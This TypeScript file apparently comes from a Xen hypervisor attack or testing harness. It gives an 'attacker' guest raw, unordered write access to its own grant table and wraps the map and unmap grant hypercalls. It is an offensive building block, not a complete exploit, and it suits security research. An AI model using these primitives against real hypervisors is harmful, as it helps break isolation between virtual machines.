/**
 * The attacker's own way to its grant table: the first grant frame once more in a spare slot, written word by word, without the order
 * and the care that a kernel takes.
 */
import {
  DOMID,
  GNTMAP,
  gnttab_map_grant_ref,
  gnttab_unmap_grant_ref,
  GNTTABOP,
  grant_entry_v1,
  PAGE_SIZE,
  xen_add_to_physmap,
  XENMAPSPACE,
  XENMEM,
} from '@iospace/abi'
import type { Kernel, KernelBuffer } from '@iospace/linux'

export class RawGrants {
  readonly #window: KernelBuffer

  constructor(kernel: Kernel) {
    const pfn = kernel.memory.slots.allocate()
    const value = { domid: DOMID.SELF, size: 0, space: XENMAPSPACE.grant_table, idx: 0n, gpfn: BigInt(pfn) }
    const result = kernel.hypercalls.call('memory_op', XENMEM.add_to_physmap, xen_add_to_physmap, value)
    if (result < 0) throw new Error(`the attacker cannot see its grant table: ${result}`)
    this.#window = kernel.memory.window(pfn)
  }

  /** Writes entry `ref` as it stands. */
  write(ref: number, entry: { readonly flags: number; readonly domid: number; readonly frame: number }): void {
    this.#window.writeStruct(grant_entry_v1, entry, ref * grant_entry_v1.size)
  }

  read(ref: number): { readonly flags: number; readonly domid: number; readonly frame: number } {
    return this.#window.readStruct(grant_entry_v1, ref * grant_entry_v1.size)
  }
}

export interface MapResult {
  readonly status: number
  readonly handle: number
  /** Slot that was asked for. */
  readonly pfn: number
  readonly busAddress: bigint
}

/** One GNTTABOP_map_grant_ref, into a fresh slot unless `pfn` says another. */
export function mapGrant(
  kernel: Kernel,
  dom: number,
  ref: number,
  { flags = GNTMAP.host_map as number, pfn = kernel.memory.slots.allocate() } = {},
): MapResult {
  const map = { ...gnttab_map_grant_ref.zero(), host_addr: BigInt(pfn) * BigInt(PAGE_SIZE), flags, ref, dom }
  kernel.hypercalls.callList('grant_table_op', GNTTABOP.map_grant_ref, gnttab_map_grant_ref, [map])
  return { status: map.status, handle: map.handle, pfn, busAddress: map.dev_bus_addr }
}

/** One GNTTABOP_unmap_grant_ref; its status. */
export function unmapGrant(kernel: Kernel, handle: number, pfn: number, busAddress = 0n): number {
  const host_addr = BigInt(pfn) * BigInt(PAGE_SIZE)
  const unmap = { ...gnttab_unmap_grant_ref.zero(), host_addr, dev_bus_addr: busAddress, handle }
  kernel.hypercalls.callList('grant_table_op', GNTTABOP.unmap_grant_ref, gnttab_unmap_grant_ref, [unmap])
  return unmap.status
}
